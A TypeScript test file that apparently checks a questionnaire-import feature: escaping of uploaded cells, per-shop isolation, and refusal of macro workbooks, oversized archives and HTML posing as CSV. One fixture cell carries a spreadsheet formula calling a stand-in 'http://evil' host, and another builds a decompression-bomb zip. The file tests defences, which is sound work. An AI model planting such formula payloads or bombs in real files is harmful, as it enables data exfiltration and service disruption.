import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { workbookOf, zipOf } from '../../../test/support/files.ts';
import { startTestControl, type TestControl } from '../../../test/support/control.ts';
import type { ApiClient } from '../../../test/support/installation.ts';
import { respondent } from '../../../test/support/respondent.ts';

const V1 = '/api/v1';

describe('a questionnaire of somebody else’s', () => {
  let t: TestControl;
  let owner: ApiClient;
  let base: string;
  beforeAll(async () => {
    t = await startTestControl();
    owner = await t.owner();
    const shop = await owner.call('POST', `${V1}/shops`, { address: 'https://one.example' });
    base = `${V1}/shops/${shop.json.shop.id}`;
  });
  afterAll(() => t.close());

  const bring = async (to: string, name: string, bytes: Buffer) => {
    const form = new FormData();
    form.append('title', 'Bank questionnaire');
    form.append('file', new File([Uint8Array.from(bytes)], name));
    const sent = await fetch(`${t.url}${to}/questionnaires`, {
      method: 'POST',
      headers: { cookie: owner.cookie() },
      body: form,
    });
    return { status: sent.status, json: (await sent.json()) as Record<string, string> };
  };
  const sheet = workbookOf([
    ['No.', 'Domain', 'Question'],
    ['1', 'Access', '=WEBSERVICE("http://evil") <i>Is access reviewed?</i>'],
    ['2', 'Access', 'Is there a second factor?'],
  ]);

  it('is taken in, sent to a third party, and answered like any other', async () => {
    const brought = await bring(base, 'bank.xlsx', sheet);
    expect(brought).toMatchObject({ status: 201, json: { items: 2, imported: true } });
    const vendor = await owner.call('POST', `${base}/vendors`, { name: 'V', kind: 'other' });
    const ask = (given: object) => owner.call('POST', `${base}/asks`, { to: 'V', ...given });
    const id = brought.json['id'];
    expect((await ask({ questionnaire: id })).status).toBe(400);
    const sent = await ask({ questionnaire: id, vendor: vendor.json.vendor });
    const they = respondent(t.url);
    const home = await they.begin(sent.json.link);
    const page = await they.send(`${home}/S1`);
    expect(page.text).toContain(
      '=WEBSERVICE(&quot;http://evil&quot;) &lt;i&gt;Is access reviewed?&lt;/i&gt;',
    );
    await they.save(`${home}/S1`, { 'c:I1': 'yes', 'c:I2': 'no' });
    expect((await they.send(`${home}/hand-in`, { method: 'POST' })).status).toBe(303);
  });

  it('belongs to the shop that brought it', async () => {
    const other = await owner.call('POST', `${V1}/shops`, { address: 'https://two.example' });
    const two = `${V1}/shops/${other.json.shop.id}`;
    const list = async (at: string) =>
      (await owner.call('GET', `${at}/questionnaires`)).json.questionnaires.filter(
        (q: { imported: boolean }) => q.imported,
      );
    expect(await list(two)).toEqual([]);
    expect(await bring(two, 'bank.xlsx', sheet)).toMatchObject({ status: 201 });
    expect(await list(two)).toHaveLength(1);
    expect(await list(base)).toHaveLength(1);
    const [mine] = await list(base);
    const crossed = await owner.call('POST', `${two}/asks`, { questionnaire: mine.id, to: 'X' });
    expect(crossed.status).toBe(404);
  });

  it.each([
    ['without questions', 'a.csv', Buffer.from('Name,Price\nRing,1\n'), 'control/not-a-questionnaire'],
    [
      'with macros',
      'a.xlsx',
      workbookOf([['Question'], ['x']], { 'xl/vbaProject.bin': 'x' }),
      'control/file-refused',
    ],
    [
      'that unpacks to 100 MB',
      'a.xlsx',
      zipOf({ 'xl/workbook.xml': Buffer.alloc(100_000_000) }),
      'control/file-refused',
    ],
    ['that is a page', 'a.csv', Buffer.from('<html>'), 'control/file-refused'],
  ])('%s is refused, with a reason', async (_, name, bytes, code) => {
    expect(await bring(base, name, bytes)).toMatchObject({ status: 422, json: { code } });
  });

  it('was taken in without an error', () => {
    expect(t.errors).toEqual([]);
  });
});
